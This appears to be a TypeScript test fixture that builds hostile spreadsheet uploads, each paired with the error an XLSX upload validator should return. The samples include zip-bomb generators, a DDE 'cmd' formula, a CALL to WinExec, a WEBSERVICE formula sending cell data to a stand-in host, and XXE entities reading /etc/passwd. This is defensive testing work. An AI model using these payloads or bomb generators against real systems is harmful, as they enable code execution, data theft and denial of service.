import { crc32, deflateRawSync } from 'node:zlib'
import { unzipSync, zipSync } from 'fflate'
import { writeXlsx } from '@/lib/platform/files/xlsx'
import type { ReadProblem } from '@/lib/platform/files/types'
import { withParts } from './workbook'

export type Hostile = { name: string; bytes: () => Uint8Array; problem: ReadProblem | readonly ReadProblem[] }

const harmless = () =>
  writeXlsx({
    title: 'x',
    madeAt: '2026-11-22T08:00:00.000Z',
    sheets: [{ name: 'Biểu', widths: [], rows: [[{ text: 'f0' }, { number: '1' }]] }],
  })

const SHEET = 'xl/worksheets/sheet1.xml'
const text = (value: string) => new TextEncoder().encode(value)
const sheetOf = (body: string) =>
  `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${body}</sheetData></worksheet>`
const withSheet = (body: string) => () =>
  withParts(harmless(), (name, before) => (name === SHEET ? sheetOf(body) : before))
const formula = (written: string) =>
  withSheet(
    `<row r="1"><c r="A1"><f>${written.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')}</f><v>1</v></c></row>`,
  )
const withPart =
  (name: string, content = 'x') =>
  () =>
    withParts(harmless(), (_, before) => before, { [name]: content })
const withRelation = (part: string, relation: string) => () =>
  withParts(harmless(), (name, before) =>
    name === part ? before.replace('</Relationships>', `${relation}</Relationships>`) : before,
  )
const relation = (type: string, target: string, external = false) =>
  `<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`
const withType = (type: string) => () =>
  withParts(harmless(), (name, before) =>
    name === '[Content_Types].xml' ? before.replace(/application\/[^"]*sheet\.main\+xml/, type) : before,
  )

/** One stored entry: a ZIP made by hand, so that its directory can lie. */
function zipOf(
  entries: {
    name: string
    packed: Uint8Array
    size: number
    method?: number
    flags?: number
    crc?: number
  }[],
  count = entries.length,
): Uint8Array {
  const parts: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const { name, packed, size, method = 8, flags = 0, crc = 0 } of entries) {
    const title = Buffer.from(name)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(flags, 6)
    local.writeUInt16LE(method, 8)
    local.writeUInt32LE(crc, 14)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt32LE(size, 22)
    local.writeUInt16LE(title.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(flags, 8)
    entry.writeUInt16LE(method, 10)
    entry.writeUInt32LE(crc, 16)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(size, 24)
    entry.writeUInt16LE(title.length, 28)
    entry.writeUInt32LE(offset, 42)
    directory.push(entry, title)
    parts.push(local, title, Buffer.from(packed))
    offset += 30 + title.length + packed.length
  }
  const list = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(count, 8)
  end.writeUInt16LE(count, 10)
  end.writeUInt32LE(list.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...parts, list, end])
}

/** The harmless workbook with one part made by hand. */
function withRaw(name: string, packed: Uint8Array, size: number): Uint8Array {
  const others = Object.entries(unzipSync(harmless())).filter(([part]) => part !== name)
  return zipOf([
    ...others.map(([part, content]) => ({
      name: part,
      packed: deflateRawSync(content),
      size: content.length,
      crc: crc32(content),
    })),
    { name, packed, size },
  ])
}

const MB = 1024 * 1024
/** `size` bytes of one repeated piece between a head and a tail, deflated. */
const deflated = (head: string, piece: string, times: number, tail: string) =>
  deflateRawSync(
    Buffer.concat([Buffer.from(head), Buffer.alloc(piece.length * times, piece), Buffer.from(tail)]),
  )
const OPEN =
  '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
const CLOSE = '</sheetData></worksheet>'
const rows = (count: number, cell: (row: number) => string) =>
  Array.from({ length: count }, (_, index) => `<row r="${index + 1}">${cell(index + 1)}</row>`).join('')

const BOMBS: Hostile[] = [
  {
    name: 'zip bomb, 300 MB of spaces in a sheet',
    bytes: () => withRaw(SHEET, deflated(OPEN, ' ', 300 * MB, CLOSE), 300 * MB),
    problem: 'UNPACKS_TOO_BIG',
  },
  {
    name: 'zip bomb whose directory lies',
    bytes: () => withRaw(SHEET, deflated(OPEN, ' ', 300 * MB, CLOSE), 1000),
    problem: ['UNPACKS_TOO_BIG', 'TOO_SLOW'],
  },
  {
    name: 'zip bomb of shared strings, directory lying',
    bytes: () =>
      withRaw(
        'xl/sharedStrings.xml',
        deflated('<sst>', '<si><t>aaaaaaaaaaaaaaaaaaaa</t></si>', 4 * MB, '</sst>'),
        1000,
      ),
    problem: ['TOO_MANY_CELLS', 'UNPACKS_TOO_BIG', 'TOO_SLOW'],
  },
  {
    name: 'zip bomb in an attribute',
    bytes: () => withRaw(SHEET, deflated(`${OPEN}<row r="`, '1', 120 * MB, `"/>${CLOSE}`), 1000),
    problem: ['UNPACKS_TOO_BIG', 'TOO_SLOW', 'BROKEN'],
  },
  {
    name: 'zip bomb in a comment',
    bytes: () => withRaw(SHEET, deflated(`${OPEN}<!--`, 'x', 120 * MB, `-->${CLOSE}`), 1000),
    problem: ['UNPACKS_TOO_BIG', 'TOO_SLOW', 'BROKEN'],
  },
  {
    name: 'zip bomb in content types',
    bytes: () => withRaw('[Content_Types].xml', deflated('<Types>', '<Default/>', 20 * MB, '</Types>'), 1000),
    problem: ['UNPACKS_TOO_BIG', 'TOO_SLOW', 'NOT_XLSX'],
  },
  {
    name: 'a cell of 60 MB',
    bytes: () =>
      withRaw(
        SHEET,
        deflated(
          `${OPEN}<row r="1"><c r="A1" t="inlineStr"><is><t>`,
          'a',
          60 * MB,
          `</t></is></c></row>${CLOSE}`,
        ),
        60 * MB,
      ),
    problem: ['BROKEN', 'UNPACKS_TOO_BIG', 'TOO_SLOW'],
  },
  {
    name: 'tags nested a million deep',
    bytes: () => withRaw(SHEET, deflated(OPEN, '<x>', 3 * MB, CLOSE), 9 * MB),
    problem: ['BROKEN', 'UNPACKS_TOO_BIG', 'TOO_SLOW'],
  },
  {
    name: '70,000 parts in the directory',
    bytes: () => zipOf([{ name: 'a', packed: new Uint8Array(), size: 0 }], 0xffff),
    problem: 'UNPACKS_TOO_BIG',
  },
  {
    name: '500 parts',
    bytes: () =>
      zipOf(
        Array.from({ length: 500 }, (_, index) => ({ name: `p${index}`, packed: new Uint8Array(), size: 0 })),
      ),
    problem: 'UNPACKS_TOO_BIG',
  },
  {
    name: '1,048,576 rows with a cell each',
    bytes: () =>
      withRaw(
        SHEET,
        deflateRawSync(OPEN + rows(1_048_576, (row) => `<c r="A${row}"><v>1</v></c>`) + CLOSE),
        1000,
      ),
    problem: 'TOO_MANY_ROWS',
  },
  {
    name: '1,048,576 empty rows',
    bytes: () => withRaw(SHEET, deflated(OPEN, '<row/>', 1_048_576, CLOSE), 7 * MB),
    problem: 'TOO_MANY_ROWS',
  },
  {
    name: 'one cell in row 1,048,576',
    bytes: withSheet('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
    problem: 'TOO_MANY_ROWS',
  },
  {
    name: 'one cell in column XFD',
    bytes: withSheet('<row r="1"><c r="XFD1"><v>1</v></c></row>'),
    problem: 'TOO_MANY_ROWS',
  },
  {
    name: 'a million cells',
    bytes: () =>
      withRaw(SHEET, deflateRawSync(OPEN + rows(5000, () => '<c><v>1</v></c>'.repeat(200)) + CLOSE), 20 * MB),
    problem: 'TOO_MANY_CELLS',
  },
  {
    name: '61 sheets',
    bytes: () =>
      withParts(harmless(), (name, before) =>
        name === 'xl/workbook.xml'
          ? before.replace('<sheets>', `<sheets>${'<sheet name="s" sheetId="9" r:id="rId1"/>'.repeat(61)}`)
          : before,
      ),
    problem: 'TOO_MANY_CELLS',
  },
]

const CONTENTS: Hostile[] = [
  { name: 'macros', bytes: withPart('xl/vbaProject.bin'), problem: 'MACROS' },
  {
    name: 'macros under another name',
    bytes: withRelation('xl/_rels/workbook.xml.rels', relation('vbaProject', 'x.bin')),
    problem: ['MACROS'],
  },
  {
    name: 'an xlsm renamed',
    bytes: withType('application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
    problem: 'MACROS',
  },
  { name: 'Excel 4 macro sheet', bytes: withPart('xl/macrosheets/sheet1.xml'), problem: 'MACROS' },
  { name: 'dialog sheet', bytes: withPart('xl/dialogsheets/sheet1.xml'), problem: 'MACROS' },
  { name: 'external link', bytes: withPart('xl/externalLinks/externalLink1.xml'), problem: 'EXTERNAL' },
  {
    name: 'external relation of the workbook',
    bytes: withRelation(
      'xl/_rels/workbook.xml.rels',
      relation('externalLinkPath', 'file:///etc/passwd', true),
    ),
    problem: 'EXTERNAL',
  },
  {
    name: 'external template',
    bytes: withRelation('_rels/.rels', relation('attachedTemplate', 'http://evil.test/x.xltm', true)),
    problem: 'EXTERNAL',
  },
  { name: 'embedded object', bytes: withPart('xl/embeddings/oleObject1.bin'), problem: 'EXTERNAL' },
  { name: 'ActiveX control', bytes: withPart('xl/activeX/activeX1.xml'), problem: 'EXTERNAL' },
  { name: 'data connection', bytes: withPart('xl/connections.xml'), problem: 'EXTERNAL' },
  { name: 'query table', bytes: withPart('xl/queryTables/queryTable1.xml'), problem: 'EXTERNAL' },
  { name: 'custom ribbon', bytes: withPart('customUI/customUI.xml'), problem: 'EXTERNAL' },
  { name: 'web extension', bytes: withPart('xl/webextensions/webextension1.xml'), problem: 'EXTERNAL' },
  { name: 'formula: DDE', bytes: formula("cmd|'/C calc'!A0"), problem: 'ACTIVE_FORMULA' },
  {
    name: 'formula: WEBSERVICE',
    bytes: formula('WEBSERVICE("http://evil.test/"&A1)'),
    problem: 'ACTIVE_FORMULA',
  },
  {
    name: 'formula: HYPERLINK',
    bytes: formula('HYPERLINK("http://evil.test","x")'),
    problem: 'ACTIVE_FORMULA',
  },
  { name: 'formula: another workbook', bytes: formula('[1]Sheet1!A1'), problem: 'ACTIVE_FORMULA' },
  {
    name: 'formula: another workbook by name',
    bytes: formula("'C:\\[luong.xlsx]Sheet1'!A1"),
    problem: 'ACTIVE_FORMULA',
  },
  {
    name: 'formula: CALL',
    bytes: formula('CALL("kernel32","WinExec","JFJ","calc",5)'),
    problem: 'ACTIVE_FORMULA',
  },
  { name: 'formula: RTD', bytes: formula('RTD("x",,"y")'), problem: 'ACTIVE_FORMULA' },
  {
    name: 'entities that multiply',
    bytes: () =>
      withParts(harmless(), (name, before) =>
        name === SHEET ? `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${sheetOf('')}` : before,
      ),
    problem: 'BROKEN',
  },
  {
    name: 'an entity from a file',
    bytes: () =>
      withParts(harmless(), (name, before) =>
        name === 'xl/workbook.xml'
          ? before.replace('<workbook ', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook ')
          : before,
      ),
    problem: 'BROKEN',
  },
]

const WRONG_TYPES: Hostile[] = [
  { name: 'empty file', bytes: () => new Uint8Array(), problem: 'EMPTY' },
  { name: '11 MB', bytes: () => new Uint8Array(11 * MB), problem: 'TOO_BIG' },
  {
    name: 'old .xls, or a workbook with a password',
    bytes: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)]),
    problem: 'OLD_FORMAT',
  },
  { name: 'PDF', bytes: () => text(`%PDF-1.7\n${'x'.repeat(500)}%%EOF`), problem: 'NOT_XLSX' },
  { name: 'CSV', bytes: () => text('Mã;Chỉ tiêu;Kết quả\r\n'.repeat(40)), problem: 'NOT_XLSX' },
  {
    name: 'HTML that calls itself .xls',
    bytes: () => text(`<html><table><tr><td>1</td></tr></table></html>${' '.repeat(80)}`),
    problem: 'NOT_XLSX',
  },
  {
    name: 'a DOCX',
    bytes: withType('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'),
    problem: 'NOT_XLSX',
  },
  {
    name: 'a binary workbook',
    bytes: withType('application/vnd.ms-excel.sheet.binary.macroEnabled.main'),
    problem: ['MACROS', 'NOT_XLSX'],
  },
  { name: 'a plain ZIP', bytes: () => zipSync({ 'a.txt': text('a') }), problem: 'NOT_XLSX' },
  {
    name: 'ZIP entries with a password',
    bytes: () => zipOf([{ name: '[Content_Types].xml', packed: text('x'), size: 1, flags: 1, method: 0 }]),
    problem: 'ENCRYPTED',
  },
  {
    name: 'two parts of one name',
    bytes: () =>
      zipOf([1, 2].map(() => ({ name: '[Content_Types].xml', packed: text('x'), size: 1, method: 0 }))),
    problem: 'BROKEN',
  },
  { name: 'cut off in the middle', bytes: () => harmless().slice(0, 900), problem: 'BROKEN' },
  { name: 'cut off at the end', bytes: () => harmless().slice(0, -30), problem: 'BROKEN' },
  {
    name: 'bytes flipped',
    bytes: () => harmless().map((byte, index) => (index > 60 && index < 1500 ? byte ^ 0x5a : byte)),
    problem: ['BROKEN', 'NOT_XLSX', 'UNPACKS_TOO_BIG', 'ENCRYPTED'],
  },
  {
    name: 'a sheet that is no XML',
    bytes: () => withParts(harmless(), (name, before) => (name === SHEET ? '{"json":true}' : before)),
    problem: 'BROKEN',
  },
  {
    name: 'a shared string that is not there',
    bytes: withSheet('<row r="1"><c r="A1" t="s"><v>99</v></c></row>'),
    problem: 'BROKEN',
  },
  {
    name: 'a number that is none',
    bytes: withSheet('<row r="1"><c r="A1"><v>1e9999</v></c></row>'),
    problem: 'BROKEN',
  },
  {
    name: 'a cell without a place',
    bytes: withSheet('<row r="1"><c r="../../A1"><v>1</v></c></row>'),
    problem: 'BROKEN',
  },
  {
    name: 'text that is not UTF-8',
    bytes: () =>
      zipSync({
        ...unzipSync(harmless()),
        [SHEET]: Buffer.concat([Buffer.from(sheetOf('')), Buffer.from([0xff, 0xfe, 0x41])]),
      }),
    problem: 'BROKEN',
  },
]

/** Files that no upload may get past, with why they are refused. */
export const HOSTILE: Hostile[] = [
  // On a slow machine the time is up before the limit is reached: refused all the same.
  ...BOMBS.map((bomb): Hostile => ({ ...bomb, problem: [bomb.problem, 'TOO_SLOW' as const].flat() })),
  ...CONTENTS,
  ...WRONG_TYPES,
]
export const HARMLESS = harmless
